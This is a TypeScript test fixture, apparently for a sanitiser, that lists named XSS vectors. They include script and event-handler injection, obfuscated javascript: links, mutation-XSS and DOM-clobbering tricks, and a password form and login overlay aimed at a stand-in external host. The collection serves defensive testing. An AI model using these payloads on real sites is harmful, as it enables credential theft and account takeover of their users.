// Ways to make stored HTML act: from OWASP's cheat sheet, the DOMPurify and mXSS classics, and newer platform features. In
// each, RUN is script that tells the test, and OUT an address of another site.

interface Vector {
  name: string
  html: string
  /** Whether it acts in today's Chromium where nothing sanitises it; the others live on older parsers or on a bad sanitiser. */
  acts: boolean
}

const live: [name: string, html: string][] = [
  ['a script', '<script>RUN</script>'],
  ['a script in mixed case', '<ScRiPt>RUN</sCrIpT>'],
  ['a script with a slash for a space', '<script/x>RUN</script>'],
  ['a script from another site', '<script src="OUT"></script>'],
  ['a module from another site', '<script type="module">import "OUT"</script>'],
  ['a script in svg', '<svg><script>RUN</script></svg>'],
  ['a script in svg with an address', '<svg><script href="data:,RUN"/></svg>'],
  ['a script after a broken image', '<img """><script>RUN</script>">'],
  ['a script after a closed title', '</title><script>RUN</script>'],
  ['a script after a closed textarea', '</textarea><script>RUN</script>'],
  ['a script after an extra bracket', '<<script>RUN//<</script>'],
  ['an image with onerror', '<img src="data:," onerror="RUN">'],
  ['an image with onerror, unquoted', '<img src=data:, onerror=RUN>'],
  ['an image with onerror, slashes for spaces', '<img/src="data:,"/onerror="RUN">'],
  ['an image with onerror in entities', '<img src="data:," onerror="&#114;&#97;&#110;&#x28;N&#x29;">'],
  ['an image with onerror after a line feed', '<img src="data:,"\nonerror\n=\n"RUN">'],
  ['an image with onerror after a form feed', '<img src="data:,"\fonerror="RUN">'],
  ['the old image element', '<image src="data:," onerror="RUN">'],
  [
    'an image with onload',
    '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="RUN">',
  ],
  ['an image of another site', '<img src="OUT">'],
  ['an image of another site without a scheme', '<img src="//elsewhere.example/N/">'],
  ['an image of another site with backslashes', '<img src="\\\\elsewhere.example/N/">'],
  ['an image set of another site', '<img srcset="OUT 1x">'],
  ['a picture source of another site', '<picture><source srcset="OUT"><img src="data:,"></picture>'],
  ['svg with onload', '<svg onload="RUN">'],
  ['svg with onload and slashes', '<svg/onload=RUN//>'],
  ['svg that animates and begins', '<svg><animate onbegin="RUN" attributeName="x" dur="1s">'],
  [
    'svg that sets an address',
    '<svg><a><set attributeName="href" to="javascript:RUN"/><text y="20">Press</text></a></svg>',
  ],
  [
    'svg that animates an address',
    '<svg><a><animate attributeName="href" values="javascript:RUN"/><text y="20">Press</text></a></svg>',
  ],
  ['svg with xlink:href', '<svg><a xlink:href="javascript:RUN"><text y="20">Press</text></a></svg>'],
  ['an image of another site in svg', '<svg><image href="OUT"/></svg>'],
  [
    'a foreignObject with an image',
    '<svg><foreignObject><img src="data:," onerror="RUN"></foreignObject></svg>',
  ],
  [
    'math with a link',
    '<math href="javascript:RUN"><mtext><a href="javascript:RUN">Press</a></mtext></math>',
  ],
  ['a javascript: link', '<a href="javascript:RUN">Press</a>'],
  ['a javascript: link in mixed case', '<a href="JaVaScRiPt:RUN">Press</a>'],
  ['a javascript: link with a tab', '<a href="jav\tascript:RUN">Press</a>'],
  ['a javascript: link with a tab as an entity', '<a href="jav&#x09;ascript:RUN">Press</a>'],
  ['a javascript: link with a line feed', '<a href="jav&#10;ascript&#13;:RUN">Press</a>'],
  ['a javascript: link after control characters', '<a href="&#1;&#2;&#14; javascript:RUN">Press</a>'],
  ['a javascript: link with named entities', '<a href="javascript&colon;RUN">Press</a>'],
  [
    'a javascript: link in decimal entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN">Press</a>',
  ],
  [
    'a javascript: link in entities without ends',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058RUN">Press</a>',
  ],
  ['a javascript: link that begins as a comment', '<a href="javascript://%0aRUN">Press</a>'],
  [
    'a javascript: area',
    '<img usemap="#m" src="data:,"><map name="m"><area shape="default" href="javascript:RUN"></map>',
  ],
  ['an iframe with a javascript: address', '<iframe src="javascript:parent.RUN"></iframe>'],
  ['an iframe with srcdoc', '<iframe srcdoc="<script>parent.RUN</script>"></iframe>'],
  [
    'an iframe with srcdoc in entities',
    '<iframe srcdoc="&lt;img src=data:, onerror=parent.RUN&gt;"></iframe>',
  ],
  ['an iframe with onload', '<iframe onload="RUN"></iframe>'],
  ['an iframe of another site', '<iframe src="OUT"></iframe>'],
  ['an object of another site', '<object data="OUT"></object>'],
  ['an embed of another site', '<embed src="OUT">'],
  ['a base for another site', '<base href="OUT"><img src="x.png">'],
  ['a refresh to another site', '<meta http-equiv="refresh" content="0; url=OUT">'],
  ['a style sheet of another site', '<link rel="stylesheet" href="OUT">'],
  ['a prefetch from another site', '<link rel="preload" as="image" href="OUT">'],
  ['an @import of another site', '<style>@import "OUT";</style>'],
  ['an @import inside svg', '<svg><style>@import "OUT";</style></svg>'],
  ['a style that hides the page', '<style>body { display: none }</style>'],
  [
    'a style attribute that covers the page',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Log in again</div>',
  ],
  [
    'a style attribute that covers the page, from its corner',
    '<a href="OUT" style="position:absolute;top:0;left:0;width:9999px;height:9999px">.</a>',
  ],
  ['a style attribute that calls another site', '<p style="background:url(OUT)">Words</p>'],
  ['a table background of another site', '<table background="OUT"><tr><td>Words</td></tr></table>'],
  ['a body with a background', '<body background="OUT">'],
  ['a body with onload', '<body onload="RUN">'],
  ['a body with onpageshow', '<body onpageshow="RUN">'],
  ['details with ontoggle', '<details open ontoggle="RUN"><summary>More</summary>Words</details>'],
  ['an input with autofocus and onfocus', '<input autofocus onfocus="RUN">'],
  ['a paragraph with tabindex and onfocus', '<p tabindex="0" autofocus onfocus="RUN">Words</p>'],
  ['an editable paragraph with onfocus', '<p contenteditable autofocus onfocus="RUN">Words</p>'],
  ['a paragraph with onmouseover', '<p onmouseover="RUN">Words</p>'],
  ['a paragraph with onclick and an accesskey', '<p accesskey="x" onclick="RUN">Words</p>'],
  ['a paragraph with onpointerover', '<p onpointerover="RUN">Words</p>'],
  ['a video with onerror', '<video onerror="RUN" src="data:,"></video>'],
  ['a video source with onerror', '<video><source onerror="RUN" src="data:,"></video>'],
  ['an audio with onerror', '<audio src="data:," onerror="RUN"></audio>'],
  ['a video with a poster of another site', '<video poster="OUT"></video>'],
  ['a video of another site', '<video src="OUT" preload="auto"></video>'],
  ['a form with a javascript: action', '<form action="javascript:RUN"><button>Send</button></form>'],
  ['a button with formaction', '<form><button formaction="javascript:RUN">Send</button></form>'],
  ['a form to another site', '<form action="OUT"><input name="password"><button>Sign in</button></form>'],
  ['an image button with onerror', '<input type="image" src="data:," onerror="RUN">'],
  [
    'a popover with onbeforetoggle',
    '<button popovertarget="p">Open</button><div id="p" popover onbeforetoggle="RUN">Words</div>',
  ],
  [
    'a template with a shadow root',
    '<div><template shadowrootmode="open"><img src="data:," onerror="RUN"></template></div>',
  ],
  [
    'a style that animates with onanimationstart',
    '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="RUN">Words</p>',
  ],
  ['an image that takes the place of document.cookie', '<img name="cookie">'],
  ['an image that takes the place of document.querySelector', '<img name="querySelector">'],
  ['a link that takes the place of a global', '<a id="school" href="OUT">Words</a>'],
  [
    'two links that take the place of a global and its property',
    '<a id="school"></a><a id="school" name="url" href="OUT">Words</a>',
  ],
  [
    'a form that takes the place of its own attributes',
    '<form onmouseover="RUN"><input name="attributes"></form>',
  ],
  ['a tag in full-width brackets beside a real one', '＜script＞RUN＜/script＞<img src=data:, onerror=RUN>'],
  ['a frame page', '<frameset onload="RUN"></frameset>'],
]

const elsewhere: [name: string, html: string][] = [
  ['a script that never ends', '<script>RUN</script'],
  ['an object with onerror', '<object data="data:text/none,x" onerror="RUN"></object>'],
  ['a marquee with onstart', '<marquee onstart="RUN">Words</marquee>'],
  ['a vbscript: link', '<a href="vbscript:RUN">Press</a>'],
  ['a data: link', '<a href="data:text/html,<script>RUN</script>">Press</a>'],
  [
    'a data: link in base64',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Press</a>',
  ],
  ['an expression in a style', '<p style="width:expression(RUN)">Words</p>'],
  ['a binding in a style', '<p style="-moz-binding:url(OUT)">Words</p>'],
  ['an image with a javascript: address', '<img src="javascript:RUN">'],
  ['an image with dynsrc and lowsrc', '<img dynsrc="javascript:RUN" lowsrc="javascript:RUN">'],
  ['a javascript: link with a null', '<a href="java\u0000script:RUN">Press</a>'],
  ['a conditional comment', '<!--[if gte IE 4]><script>RUN</script><![endif]-->'],
  ['a script in UTF-7', '<meta charset="utf-7">+ADw-script+AD4-RUN+ADw-/script+AD4-'],
  ['a link with a ping', '<a href="#here" ping="OUT">Press</a>'],
  [
    'math, mglyph and style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=RUN&gt;">',
  ],
  [
    'math, malignmark and style',
    '<math><mtext><h1><a><h6></a></h6><malignmark><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=RUN&gt;">',
  ],
  [
    'a form within a form, with math',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  ],
  ['svg, p and style', '<svg></p><style><a id="</style><img src=data:, onerror=RUN>">'],
  ['noscript with a title that closes it', '<noscript><p title="</noscript><img src=data:, onerror=RUN>">'],
  ['noembed with a title that closes it', '<noembed><p title="</noembed><img src=data:, onerror=RUN>">'],
  ['xmp with a title that closes it', '<xmp><p title="</xmp><img src=data:, onerror=RUN>">'],
  ['a comment that closes early', '<!--><img src="data:," onerror="RUN">-->'],
  ['a template with a script', '<template><script>RUN</script></template>'],
  [
    'svg, desc and a template',
    '<svg><desc><template><style><a title="</style><img src=data:, onerror=RUN>"></template>',
  ],
  [
    'an iframe in noscript in a textarea',
    '<textarea><noscript></textarea><img title="</noscript><img src=data:, onerror=RUN>">',
  ],
  [
    'annotation-xml with html in it',
    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=data:, onerror=RUN>"></style></annotation-xml></math>',
  ],
  [
    'svg with use',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RUN'/></svg>#x\"/></svg>",
  ],
  ['isindex', '<isindex type="image" src="data:," onerror="RUN">'],
  [
    'an xml island',
    '<xml id="x"><i><b>&lt;img src=data:, onerror=RUN&gt;</b></i></xml><span datasrc="#x" datafld="b" dataformatas="html"></span>',
  ],
  ['a manifest', '<html manifest="OUT"><p>Words</p>'],
]

/** The vectors, with what they need to tell the test by the number that they have. */
export const xssVectors: Vector[] = [
  ...live.map((entry) => ({ entry, acts: true })),
  ...elsewhere.map((entry) => ({ entry, acts: false })),
].map(({ entry: [name, html], acts }, index) => ({
  name,
  acts,
  html: html
    .replaceAll('RUN', `ran(${index})`)
    .replaceAll('OUT', `https://elsewhere.example/${index}/`)
    .replaceAll('/N/', `/${index}/`)
    .replaceAll('x28;N&', `x28;${index}&`),
}))
